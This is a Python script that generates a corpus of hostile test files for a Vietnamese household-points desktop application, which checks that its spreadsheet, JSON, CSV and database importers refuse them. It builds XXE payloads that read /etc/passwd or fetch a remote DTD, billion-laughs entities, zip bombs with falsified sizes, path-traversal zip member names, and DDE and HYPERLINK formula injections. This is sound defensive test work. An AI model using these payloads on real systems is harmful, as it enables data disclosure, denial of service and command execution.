"""Generate the hostile-file corpus under tests/corpus/ (run from the repository root).

    python scripts/make_corpus.py            # rewrites tests/corpus/{generic,points_json,points_xlsx}/

Folders, by the importers each is fed to (tests/test_corpus.py):
- generic/      not a usable xlsx at all (random bytes, truncated, damaged, zip bombs, XML entities):
                every xlsx importer (points table, plan targets, sync package, ...)
- points_json/  broken JSON points tables (bkdesk.export.inputs.points_xlsx.load_points_file)
- points_xlsx/  well-formed workbooks carrying hostile content (wrong sheets, wrong types, 1 MB cells,
                NFD text, formulas, duplicated rows, negative counts, dates in 1900/2100)
- databases/    files given as the database (--db): another application's SQLite, zero-byte, text, truncated,
                a newer version's database: refused untouched (issue 17)
- targets_csv/  plan-target CSV files: 10 MB lines, "1²", non-UTF-8, over the limits (issue 17)
- package/      sync packages from other units, future versions, tampered: built by
                scripts/make_package_corpus.py with the real package writer (needs bkdesk.export.sync.package)
Every file must be rejected. Zip bombs are ~0.3-1 MB on disk and hundreds of MB inflated.
"""

from __future__ import annotations

import copy
import io
import json
import random
import shutil
import struct
import sys
import unicodedata
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from bkdesk.model.rules import points_table as pt  # noqa: E402
from tests.model.rules.test_points_table import made_up_table, write_workbook  # noqa: E402

OUT = ROOT / "tests" / "corpus"
RNG = random.Random(2026)
BOMB_MB = 400


def _write(folder: str, name: str, data: bytes) -> None:
    path = OUT / folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def _valid_xlsx(table: dict | None = None) -> bytes:
    buf = io.BytesIO()
    write_workbook(buf, table or made_up_table())
    return buf.getvalue()


def _rezip(data: bytes, replace: dict[str, bytes | None] | None = None, add: dict[str, bytes] | None = None,
           level: int = 6) -> bytes:
    """Copy a zip, replacing (None = dropping) or adding parts."""
    replace, add = replace or {}, add or {}
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for info in src.infolist():
            if info.filename in replace:
                if replace[info.filename] is not None:
                    z.writestr(info.filename, replace[info.filename])
            else:
                z.writestr(info.filename, src.read(info.filename))
        for name, body in add.items():
            z.writestr(name, body)
    return out.getvalue()


def _part(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def _sheet_names(data: bytes) -> dict[str, str]:
    """Sheet title -> part name (openpyxl writes sheetN.xml in creation order)."""
    wb = _part(data, "xl/workbook.xml").decode()
    titles = [t.split('"')[0] for t in wb.split('<sheet name="')[1:]]
    return {t: f"xl/worksheets/sheet{i}.xml" for i, t in enumerate(titles, start=1)}


# --- generic: not a usable xlsx -------------------------------------------------------------------

def _bomb(base: bytes, part: str, unit: bytes, mb: int, head: bytes, tail: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for info in src.infolist():
            if info.filename != part:
                z.writestr(info.filename, src.read(info.filename))
        with z.open(part, "w", force_zip64=False) as f:
            f.write(head)
            chunk = unit * (1024 ** 2 // len(unit))
            for _ in range(mb):
                f.write(chunk)
            f.write(tail)
    return out.getvalue()


def _lie_about_size(data: bytes, part: str, declared: int) -> bytes:
    """Patch a member's uncompressed size in its local header and central directory entry."""
    buf = bytearray(data)
    zf = zipfile.ZipFile(io.BytesIO(data))
    info = zf.getinfo(part)
    struct.pack_into("<I", buf, info.header_offset + 22, declared)
    pos = zf.start_dir
    while buf[pos:pos + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack_from("<HHH", buf, pos + 28)
        if bytes(buf[pos + 46:pos + 46 + n]).decode() == part:
            struct.pack_into("<I", buf, pos + 24, declared)
        pos += 46 + n + m + k
    return bytes(buf)


def _entity_variants(base: bytes) -> dict[str, bytes]:
    sheets = _sheet_names(base)
    meta = sheets["meta"]
    secret = "file:///etc/passwd"
    xxe = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{secret}">]>'.encode()
    laughs = b'<!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)) + b"]>"
    param = b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://192.0.2.1/evil.dtd"> %ext;]>'

    def inject(part: str, decl: bytes, ref: bytes) -> bytes:
        body = _part(base, part)
        if body.startswith(b"<?xml"):
            end = body.index(b"?>") + 2
            body = body[:end] + decl + body[end:]
        else:
            body = decl + body
        body = body.replace(b"<t>key</t>", b"<t>" + ref + b"</t>", 1)
        return _rezip(base, replace={part: body})

    return {
        "xxe-sheet.xlsx": inject(meta, xxe, b"&xxe;"),
        "xxe-workbook.xlsx": inject("xl/workbook.xml", xxe, b""),
        "xxe-content-types.xlsx": inject("[Content_Types].xml", xxe, b""),
        "xxe-rels.xlsx": inject("_rels/.rels", xxe, b""),
        "xxe-lowercase-doctype.xlsx": inject(meta, xxe.replace(b"DOCTYPE", b"doctype"), b"&xxe;"),
        "billion-laughs-sheet.xlsx": inject(meta, laughs, b"&lol9;"),
        "billion-laughs-styles.xlsx": inject("xl/styles.xml", laughs, b""),
        "xxe-parameter-entity.xlsx": inject(meta, param, b""),
        "xxe-doctype-only.xlsx": inject(meta, b"<!DOCTYPE worksheet>", b""),
    }


def make_generic() -> None:
    base = _valid_xlsx()
    for i, size in enumerate((1, 7, 512, 4096, 65_536, 300_000)):
        _write("generic", f"random-{i}-{size}b.xlsx", RNG.randbytes(size))
    _write("generic", "empty.xlsx", b"")
    _write("generic", "zip-magic-only.xlsx", b"PK\x03\x04")
    _write("generic", "zip-magic-then-random.xlsx", b"PK\x03\x04" + RNG.randbytes(5000))
    _write("generic", "csv-renamed.xlsx", "Mã hộ;Họ tên;Số người\n0001;Nông Văn Ánh;4\n".encode())
    _write("generic", "utf16-text-renamed.xlsx", "Danh sách hộ nghèo".encode("utf-16"))
    _write("generic", "pdf-renamed.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF")
    _write("generic", "old-xls-or-password.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + RNG.randbytes(4096))
    _write("generic", "html-renamed.xlsx", "<html><body><table><tr><td>Hộ nghèo</td></tr></table></body></html>".encode())
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    _write("generic", "docx-renamed.xlsx", docx.getvalue())
    plain = io.BytesIO()
    with zipfile.ZipFile(plain, "w") as z:
        z.writestr("ghi-chú.txt", "không phải bảng tính")
    _write("generic", "zip-without-workbook.xlsx", plain.getvalue())
    _write("generic", "no-sheets-part.xlsx",
           _rezip(base, replace={n: None for n in _sheet_names(base).values()}))
    _write("generic", "workbook-xml-garbage.xlsx", _rezip(base, replace={"xl/workbook.xml": RNG.randbytes(300)}))
    _write("generic", "sheet-xml-truncated.xlsx",
           _rezip(base, replace={_sheet_names(base)["meta"]: _part(base, _sheet_names(base)["meta"])[:200]}))
    for frac in (0.05, 0.3, 0.5, 0.8, 0.95, 0.99):
        _write("generic", f"truncated-{int(frac * 100)}pct.xlsx", base[:int(len(base) * frac)])
    _write("generic", "truncated-no-central-directory.xlsx", base[:zipfile.ZipFile(io.BytesIO(base)).start_dir])
    _write("generic", "truncated-last-byte.xlsx", base[:-1])
    zf = zipfile.ZipFile(io.BytesIO(base))
    for i, part in enumerate(("xl/workbook.xml", _sheet_names(base)["meta"], "xl/styles.xml", "[Content_Types].xml")):
        info = zf.getinfo(part)  # damaged bytes inside one part's deflate stream: inflate / CRC errors
        n, m = struct.unpack_from("<HH", base, info.header_offset + 26)
        start = info.header_offset + 30 + n + m
        buf = bytearray(base)
        rng = random.Random(i)
        for _ in range(6):
            buf[start + rng.randrange(2, max(3, info.compress_size - 2))] ^= 0xFF
        _write("generic", f"bitflips-{i}.xlsx", bytes(buf))
    enc = bytearray(base)  # the "encrypted" flag on every member
    zf = zipfile.ZipFile(io.BytesIO(base))
    for info in zf.infolist():
        enc[info.header_offset + 6] |= 1
    pos = zf.start_dir
    while enc[pos:pos + 4] == b"PK\x01\x02":
        enc[pos + 8] |= 1
        n, m, k = struct.unpack_from("<HHH", enc, pos + 28)
        pos += 46 + n + m + k
    _write("generic", "zip-encrypted-flag.xlsx", bytes(enc))
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w", zipfile.ZIP_DEFLATED) as z:
        for info in zf.infolist():
            z.writestr(info.filename, zf.read(info.filename))
        for i in range(6000):
            z.writestr(f"xl/media/p{i}.bin", b"")
    _write("generic", "zip-6000-members.xlsx", many.getvalue())
    for name, data in _entity_variants(base).items():
        _write("generic", name, data)
    make_bombs(base)


def make_bombs(base: bytes) -> None:
    sheets = _sheet_names(base)
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    tail = b"</sheetData></worksheet>"
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></is></c></row>'
    bomb = _bomb(base, sheets["meta"], row, BOMB_MB, head, tail)
    _write("generic", f"zip-bomb-sheet-{BOMB_MB}mb.xlsx", bomb)
    _write("generic", "zip-bomb-lying-size.xlsx", _lie_about_size(bomb, sheets["meta"], 4096))
    _write("generic", "zip-bomb-questions-sheet.xlsx", _bomb(base, sheets["questions"], row, 150, head, tail))
    sst_head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    sst = _bomb(_rezip(base, add={"xl/sharedStrings.xml": sst_head + b"</sst>"}), "xl/sharedStrings.xml",
                b"<si><t>" + b"x" * 56 + b"</t></si>", 300, sst_head, b"</sst>")
    _write("generic", "zip-bomb-shared-strings.xlsx", sst)
    _write("generic", "zip-bomb-styles.xlsx", _bomb(base, "xl/styles.xml", b"<!-- " + b"z" * 58 + b" -->", 200,
                                                    b'<styleSheet xmlns="x">', b"</styleSheet>"))
    # a few bytes that make the reader allocate a 16,384 x 1,048,576 range (python-calamine aborts)
    meta = _part(base, sheets["meta"])
    corner = meta.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
                          b"</row></sheetData>")
    _write("generic", "corner-cell-xfd1048576.xlsx", _rezip(base, replace={sheets["meta"]: corner}))
    far = meta.replace(b"</sheetData>", b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>')
    _write("generic", "far-row-1048576.xlsx", _rezip(base, replace={sheets["meta"]: far}))
    wide = meta.replace(b"</sheetData>", b'<row r="3"><c r="XFD3"><v>1</v></c></row></sheetData>')
    _write("generic", "wide-column-xfd.xlsx", _rezip(base, replace={sheets["questions"]: wide}))
    make_far_corners(base)


def _far(meta: bytes, cell: bytes) -> bytes:
    return meta.replace(b"</sheetData>", cell + b"</sheetData>")


def make_far_corners(base: bytes) -> None:
    """The far cell written so that a pattern match misses it (issue 17): the parsing guard must not."""
    sheets = _sheet_names(base)
    meta_part = sheets["meta"]
    meta = _part(base, meta_part)
    variants = {
        "corner-attributes-reordered.xlsx": b'<row r="1048576"><c t="n" r="XFD1048576"><v>1</v></c></row>',
        "corner-single-quotes.xlsx": b"<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>",
        "corner-spaces-around-equals.xlsx": b'<row r = "1048576"><c r = "XFD1048576"><v>1</v></c></row>',
        "corner-cell-without-r.xlsx": b'<row r="1048576"><c><v>1</v></c></row>',
        "corner-row-implied-by-position.xlsx": (b'<row r="1048575"><c r="A1048575"><v>1</v></c></row><row>'
                                                + b"<c><v>1</v></c>" * 4 + b"</row>"),
        "corner-prefixed-namespace.xlsx": (b'<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
                                           b' r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>'),
        "corner-lowercase-ref.xlsx": b'<row r="1048576"><c r="xfd1048576"><v>1</v></c></row>',
        "corner-entity-in-ref.xlsx": b'<row r="1048576"><c r="&#88;FD1048576"><v>1</v></c></row>',
        "corner-tab-before-r.xlsx": b'<row r="1048576"><c\tr="XFD1048576"><v>1</v></c></row>',
        "corner-beyond-excel.xlsx": b'<row r="99999999"><c r="ZZZZ99999999"><v>1</v></c></row>',
    }
    for name, cell in variants.items():
        _write("generic", name, _rezip(base, replace={meta_part: _far(meta, cell)}))
    dim = meta.replace(b"<sheetData", b'<dimension ref="A1:XFD1048576"/><sheetData', 1) if b"<dimension" not in meta \
        else meta.replace(b"<dimension ref=", b'<dimension ref="A1:XFD1048576" x=', 1)
    _write("generic", "corner-dimension-ref.xlsx", _rezip(base, replace={meta_part: dim}))
    merged = meta.replace(b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/>'
                          b"</mergeCells>")
    _write("generic", "corner-merged-range.xlsx", _rezip(base, replace={meta_part: merged}))
    # the sheet stored outside xl/worksheets/, where the workbook's relationships point
    rels = _part(base, "xl/_rels/workbook.xml.rels")
    moved_name = "xl/du-lieu/trang.bin"
    moved_rels = rels.replace(meta_part.removeprefix("xl/").encode(), b"du-lieu/trang.bin")
    _write("generic", "corner-sheet-outside-worksheets.xlsx",
           _rezip(base, replace={meta_part: None, "xl/_rels/workbook.xml.rels": moved_rels},
                  add={moved_name: _far(meta, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}))
    # XML in UTF-16: a byte scan for DOCTYPE or cells sees nothing
    u16 = meta.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    far16 = _far(u16.encode("utf-8"), b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>').decode()
    _write("generic", "corner-utf16-sheet.xlsx", _rezip(base, replace={meta_part: far16.encode("utf-16")}))
    decl = '<?xml version="1.0" encoding="UTF-16"?>'
    doctype = u16.replace(u16[:u16.index("?>") + 2] if u16.startswith("<?xml") else "", decl, 1)
    doctype = doctype.replace(decl, decl + '<!DOCTYPE worksheet [<!ENTITY x "y">]>', 1)
    _write("generic", "doctype-utf16-sheet.xlsx", _rezip(base, replace={meta_part: doctype.encode("utf-16")}))
    # zip member names and counts
    _write("generic", "member-name-dotdot.xlsx", _rezip(base, add={"../../thoat.xml": b"<a/>"}))
    _write("generic", "member-name-absolute.xlsx", _rezip(base, add={"/etc/thoat.xml": b"<a/>"}))
    dup = io.BytesIO()
    with zipfile.ZipFile(dup, "w", zipfile.ZIP_DEFLATED) as z:
        src = zipfile.ZipFile(io.BytesIO(base))
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            z.writestr(meta_part, _far(meta, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))
    _write("generic", "member-name-duplicated.xlsx", dup.getvalue())


# --- points tables as JSON ------------------------------------------------------------------------

def _json(table) -> bytes:
    return json.dumps(table, ensure_ascii=False).encode()


def make_points_json() -> None:
    good = made_up_table()
    text = _json(good)
    w = lambda name, data: _write("points_json", name, data)  # noqa: E731
    w("not-json.json", b"Bang diem: Q1=30, Q2=20")
    w("empty.json", b"")
    w("whitespace-only.json", b" \n\t " * 1000)
    w("truncated-half.json", text[:len(text) // 2])
    w("truncated-last-brace.json", text[:-1])
    w("utf16-truncated.json", json.dumps(good, ensure_ascii=False).encode("utf-16")[:-7])
    w("latin1-bytes.json", text.replace("ệ".encode(), b"\xea"))
    w("bom-utf8-twice.json", b"\xef\xbb\xbf\xef\xbb\xbf" + text)
    w("top-level-list.json", b"[" + text + b"]")
    w("top-level-string.json", b'"bkdesk-points-table"')
    w("top-level-null.json", b"null")
    w("deep-nesting-arrays.json", b"[" * 200_000 + b"]" * 200_000)
    w("deep-nesting-objects.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000)
    w("deep-nesting-in-table.json", text[:-1] + b', "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    w("huge-integer.json", text.replace(b'"base_points": 50', b'"base_points": ' + b"9" * 10_000))
    w("nan-points.json", text.replace(b'"points": 20', b'"points": NaN'))
    w("infinity-base.json", text.replace(b'"base_points": 50', b'"base_points": Infinity'))
    w("overflow-float.json", text.replace(b'"points": 30', b'"points": 1e999'))
    w("lone-surrogate.json", text.replace("Kiên cố".encode(), b"Ki\\ud800n c\\u1ed1"))
    w("nul-in-label.json", text.replace(b"Tivi", b"Ti\\u0000vi"))
    variants = {
        "wrong-format.json": {"format": "bkdesk-plan-targets"},
        "future-format-version.json": {"format_version": 2},
        "format-version-text.json": {"format_version": "1"},
        "area-unknown.json": {"area": "mountain"},
        "valid-to-1900-before-from.json": {"valid_to": "1900-01-01"},
        "valid-from-2100-month-13.json": {"valid_from": "2100-13-01"},
        "valid-from-excel-serial.json": {"valid_from": 44562},
        "questions-empty.json": {"questions": []},
        "questions-not-list.json": {"questions": {"Q1": 30}},
        "base-points-text.json": {"base_points": "năm mươi"},
        "megabyte-type.json": {"area": "x" * 1_048_576},
    }
    for name, change in variants.items():
        w(name, _json(made_up_table(**change)))

    def q_variant(name: str, fn) -> None:
        t = copy.deepcopy(good)
        fn(t["questions"])
        w(name, _json(pt.table_checksum(t) and {**t, "checksum_sha256": pt.table_checksum(t)}))

    q_variant("duplicated-question.json", lambda qs: qs.append(copy.deepcopy(qs[1])))
    q_variant("negative-count-band-only.json", lambda qs: qs[0].update(
        bands=[{"min": -10, "max": -1, "min_inclusive": True, "max_inclusive": True, "points": 5}], min_value=0))
    q_variant("bands-overlap.json", lambda qs: qs[0]["bands"][1].update(min=1))
    q_variant("bands-gap.json", lambda qs: qs[0]["bands"][1].update(min=3))
    q_variant("boolean-three-options.json", lambda qs: qs[3]["options"].append(
        {"code": "maybe", "label_vi": "Có thể", "points": 1}))
    q_variant("option-points-text.json", lambda qs: qs[1]["options"][0].update(points="20"))
    q_variant("question-type-formula.json", lambda qs: qs[1].update(type="=HYPERLINK(\"http://x\")"))
    q_variant("question-not-object.json", lambda qs: qs.append("Q6"))
    q_variant("order-negative-text.json", lambda qs: qs[0].update(order="-1"))
    nfd = copy.deepcopy(good)
    nfd["questions"][1]["label_vi"] = unicodedata.normalize("NFD", "Loại nhà ở")
    w("nfd-label.json", _json({**nfd, "checksum_sha256": pt.table_checksum(nfd)}))
    tampered = json.loads(text)
    tampered["questions"][1]["options"][1]["points"] = 15  # edited by hand, checksum not updated
    w("tampered-points.json", _json(tampered))
    w("checksum-missing.json", _json({k: v for k, v in good.items() if k != "checksum_sha256"}))
    w("checksum-wrong-type.json", _json({**good, "checksum_sha256": 12345}))
    w("megabyte-garbage-after.json", text + b" " + b"x" * 1_048_576)


# --- points tables as xlsx ------------------------------------------------------------------------

def _points_xlsx(table: dict | None = None, edit=None) -> bytes:
    """A points workbook; ``edit(wb)`` changes it with openpyxl before saving."""
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(_valid_xlsx(table)))
    if edit:
        edit(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _set(sheet: str, row: int, col: int, value):
    def edit(wb):
        wb[sheet].cell(row=row, column=col, value=value)
    return edit


def make_points_xlsx() -> None:
    w = lambda name, data: _write("points_xlsx", name, data)  # noqa: E731
    base = _valid_xlsx()
    w("sheet-missing-bands.xlsx", _points_xlsx(edit=lambda wb: wb.remove(wb["bands"])))
    w("sheet-renamed.xlsx", _points_xlsx(edit=lambda wb: setattr(wb["questions"], "title", "Câu hỏi")))
    w("sheets-of-another-file.xlsx", _points_xlsx(edit=lambda wb: [setattr(ws, "title", f"Sheet{i}")
                                                                   for i, ws in enumerate(wb.worksheets, 1)]))
    w("column-missing.xlsx", _points_xlsx(edit=lambda wb: wb["questions"].delete_cols(5)))
    w("header-row-empty.xlsx", _points_xlsx(edit=lambda wb: wb["options"].delete_rows(1)))
    w("order-wrong-type.xlsx", _points_xlsx(edit=_set("questions", 2, 2, "thứ nhất")))
    w("points-wrong-type.xlsx", _points_xlsx(edit=_set("options", 2, 4, "hai mươi")))
    w("required-wrong-type.xlsx", _points_xlsx(edit=_set("questions", 2, 7, 3.5)))
    w("megabyte-cell-type.xlsx", _points_xlsx(edit=_set("questions", 2, 5, "x" * 1_048_576)))
    w("megabyte-cell-code.xlsx", _points_xlsx(edit=_set("questions", 3, 1, "Q" * 1_048_576)))
    w("nfd-label.xlsx", _points_xlsx(edit=_set("questions", 3, 4, unicodedata.normalize("NFD", "Loại nhà ở"))))
    w("nfd-region-name.xlsx", _points_xlsx(edit=_set("meta", 5, 2, unicodedata.normalize("NFD", "Vùng núi Bắc Kạn"))))
    w("formula-points.xlsx", _points_xlsx(edit=_set("options", 2, 4, "=10+10")))
    w("formula-type.xlsx", _points_xlsx(edit=_set("questions", 2, 5, '=HYPERLINK("http://192.0.2.1","count")')))
    w("formula-dde.xlsx", _points_xlsx(edit=_set("bands", 2, 6, "=cmd|' /C calc'!A0")))

    def dup_rows(wb):
        ws = wb["questions"]
        ws.append([c.value for c in ws[3]])
    w("duplicated-question-row.xlsx", _points_xlsx(edit=dup_rows))

    def dup_options(wb):
        ws = wb["options"]
        ws.append([c.value for c in ws[2]])
    w("duplicated-option-row.xlsx", _points_xlsx(edit=dup_options))
    neg = made_up_table()
    neg["questions"][0]["min_value"] = 0
    neg["questions"][0]["bands"] = [{"min": -10, "max": -1, "min_inclusive": True, "max_inclusive": True, "points": 5}]
    w("negative-count-band.xlsx", _points_xlsx(neg))
    w("negative-min-value-text.xlsx", _points_xlsx(edit=_set("questions", 2, 8, "-5 người")))
    w("dates-1900-and-2100.xlsx", _points_xlsx(made_up_table(valid_from="2100-01-01", valid_to="1900-01-01")))

    def real_dates(wb):
        import datetime as dt
        ws = wb["meta"]
        for row in ws.iter_rows(min_row=2):
            if row[0].value == "valid_from":
                row[1].value = dt.datetime(2100, 12, 31)
            if row[0].value == "valid_to":
                row[1].value = dt.datetime(1900, 1, 1)
    w("date-cells-1900-2100.xlsx", _points_xlsx(edit=real_dates))
    w("date-serial-in-text-column.xlsx", _points_xlsx(edit=_set("meta", 9, 2, 73051)))
    w("unknown-meta-key.xlsx", _points_xlsx(edit=lambda wb: wb["meta"].append(["owner", "ai đó"])))
    w("orphan-option.xlsx", _points_xlsx(edit=lambda wb: wb["options"].append(["Q99", "a", "Không có", 1])))
    w("area-unknown.xlsx", _points_xlsx(made_up_table(area="vùng cao")))
    w("all-sheets-empty.xlsx", _points_xlsx(edit=lambda wb: [ws.delete_rows(1, ws.max_row) for ws in wb.worksheets]))
    w("sheet-1048576-rows-sparse.xlsx", _points_xlsx(edit=_set("questions", 1_048_576, 1, "Q_END")))
    w("sheet-corner-cell.xlsx", _points_xlsx(edit=_set("bands", 1_048_576, 16_384, 1)))
    w("hidden-extra-sheet-only.xlsx", _points_xlsx(edit=lambda wb: [wb.remove(ws) for ws in wb.worksheets[1:]]))
    w("base-file-but-questions-deleted.xlsx",
      _rezip(base, replace={_sheet_names(base)["questions"]: _part(base, _sheet_names(base)["meta"])}))


# --- bad days (issue 17): databases, people's CSV files, limits --------------------------------------

def make_databases() -> None:
    """Files given as --db: every one refused untouched (tests/test_corpus.py runs `bkdesk check --db`)."""
    import tempfile

    from bkdesk.dbapi import sqlite3

    w = lambda name, data: _write("databases", name, data)  # noqa: E731
    w("zero-byte.sqlite", b"")
    w("text-file.sqlite", "Danh sách hộ nghèo thôn Nà Pò\n".encode())
    w("sqlite-magic-only.sqlite", b"SQLite format 3\x00")
    with tempfile.TemporaryDirectory() as tmp:
        def build(name: str, statements: list[str], mutate=None) -> None:
            path = Path(tmp) / name
            conn = sqlite3.connect(path)
            for st in statements:
                conn.execute(st)
            conn.commit()
            conn.close()
            data = path.read_bytes()
            w(name, mutate(data) if mutate else data)

        other = ["CREATE TABLE contacts (id INTEGER PRIMARY KEY, name TEXT)",
                 "INSERT INTO contacts(name) VALUES ('Nông Văn Ánh')"]
        build("another-app.sqlite", other)
        build("another-app-with-version.sqlite", other + ["PRAGMA user_version=9"])
        build("another-app-with-id.sqlite", other + ["PRAGMA application_id=1179402567"])
        build("another-app-fake-schema-table.sqlite", other + [
            "CREATE TABLE schema_migration (version INTEGER, name TEXT, applied_at TEXT)",
            "INSERT INTO schema_migration VALUES (1, 'm0001', '2020-01-01')", "PRAGMA user_version=3"])
        newer = ["CREATE TABLE schema_migration (version INTEGER, name TEXT, applied_at TEXT)",
                 "INSERT INTO schema_migration VALUES (999, 'm0999', '2030-01-01')", "PRAGMA user_version=999",
                 "PRAGMA application_id=1112228947"]
        build("newer-version.sqlite", newer)
        filler = ["CREATE TABLE schema_migration (version INTEGER, name TEXT, applied_at TEXT)",
                  "CREATE TABLE filler (x TEXT)"] + [f"INSERT INTO filler VALUES ('{'x' * 900}')"] * 300 + [
                  "INSERT INTO schema_migration VALUES (1, 'm0001', '2022-01-01')", "PRAGMA user_version=1",
                  "PRAGMA application_id=1112228947"]
        build("truncated-half.sqlite", filler, lambda d: d[:len(d) // 2])
        build("truncated-to-header.sqlite", filler, lambda d: d[:100])


TARGETS_HEADER = "code,name,households,poor,target_rate_pct,target_households"


def make_targets_csv() -> None:
    """Plan-target CSV files (bkdesk targets --from / targets import): every one refused in one line."""
    w = lambda name, data: _write("targets_csv", name, data)  # noqa: E731
    row = "01954,Xã Vân Tùng,1000,250,3.5,"
    w("line-of-10mb.csv", (TARGETS_HEADER + "\n01954," + "x" * 10_000_000 + ",1000,250,3.5,\n").encode())
    w("line-over-limit.csv", (TARGETS_HEADER + "\n01954," + "x" * 5000 + ",1000,250,3.5,\n").encode())
    w("superscript-number.csv", (TARGETS_HEADER + "\n01954,Xã Vân Tùng,1²,250,3.5,\n").encode())
    w("arabic-indic-digits.csv", (TARGETS_HEADER + "\n01954,Xã Vân Tùng,١٠٠٠,250,3.5,\n").encode())
    w("number-10000-digits.csv", (TARGETS_HEADER + "\n01954,Xã Vân Tùng," + "9" * 10_000 + ",250,3.5,\n").encode())
    w("rate-nan.csv", (TARGETS_HEADER + "\n01954,Xã Vân Tùng,1000,250,NaN,\n").encode())
    w("latin1-encoding.csv", (TARGETS_HEADER + "\n01954,Xa V\xe2n T\xf9ng,1000,250,3.5,\n").encode("latin-1"))
    w("windows-1258-encoding.csv", (TARGETS_HEADER + "\n").encode() + b"01954,X\xe3 V\xe2n,1000,250,3.5,\n")
    w("utf16-encoding.csv", (TARGETS_HEADER + "\n" + row + "\n").encode("utf-16"))
    w("nul-bytes.csv", (TARGETS_HEADER + "\n" + row + "\n").encode() + b"\x00" * 100)
    w("semicolon-wrong-header.csv", b"ma;ten;so_ho\r\n01954;X;1000\r\n")
    many = TARGETS_HEADER + "\n" + "".join(f"{i:05d},Đơn vị {i},1000,250,3.5,\n" for i in range(3000))
    w("rows-over-limit.csv", many.encode())
    big = TARGETS_HEADER + "\n" + (row + "\n") * 80_000
    w("file-over-size-limit.csv", big.encode())
    w("empty.csv", b"")
    w("header-only-bom-crlf.csv", ("\ufeff" + TARGETS_HEADER + "\r\n").encode())


def make_points_limits() -> None:
    """Points tables beyond the limits (resources/limits/limits.json): refused fast, the limit named."""
    many = made_up_table()
    template = many["questions"][1]
    many["questions"] = [{**copy.deepcopy(template), "code": f"Q{i}", "order": i} for i in range(1, 8001)]
    many = {**many, "checksum_sha256": pt.table_checksum(many)}
    _write("points_json", "questions-8000.json", _json(many))
    _write("points_xlsx", "questions-8000.xlsx", _valid_xlsx({**many, "checksum_sha256": None}))
    padded = made_up_table()  # valid content, 3 MB of spaces: over the file size limit before any parsing
    _write("points_json", "over-size-limit-3mb.json", _json(padded)[:-1] + b" " * 3_000_000 + b"}")


def make_package() -> None:
    import importlib.util

    if importlib.util.find_spec("bkdesk.export.sync.package") is None:
        print("bkdesk.export.sync.package missing: no package corpus")
        return
    sys.path.insert(0, str(Path(__file__).resolve().parent))
    from make_package_corpus import build

    build(OUT / "package")


def main() -> int:
    for folder in ("generic", "points_json", "points_xlsx", "package", "databases", "targets_csv"):
        shutil.rmtree(OUT / folder, ignore_errors=True)
    make_generic()
    make_points_json()
    make_points_xlsx()
    make_points_limits()
    make_databases()
    make_targets_csv()
    make_package()
    files = [p for p in OUT.rglob("*") if p.is_file() and p.suffix in (".xlsx", ".json", ".sqlite", ".csv")]
    total = sum(p.stat().st_size for p in files)
    print(f"{len(files)} files, {total / 1024 ** 2:.1f} MB on disk in {OUT}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
